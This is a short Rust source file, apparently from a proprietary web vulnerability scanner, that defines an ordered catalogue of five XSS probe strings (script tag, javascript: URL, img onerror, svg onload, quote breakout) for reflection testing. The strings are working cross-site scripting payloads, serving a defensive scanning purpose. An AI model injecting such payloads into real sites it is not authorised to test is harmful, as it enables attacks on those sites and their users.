// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - XSS Payload Catalog
 * Fixed trigger strings for reflection probing
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

/// Reflection probe payloads, in submission order.
///
/// The form probe inspects only the final iteration's outcome, so this
/// order is load-bearing: the quote-breakout payload must stay last.
pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "javascript:alert('XSS')",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "'-alert('XSS')-'",
];

pub fn xss_payloads() -> &'static [&'static str] {
    XSS_PAYLOADS
}
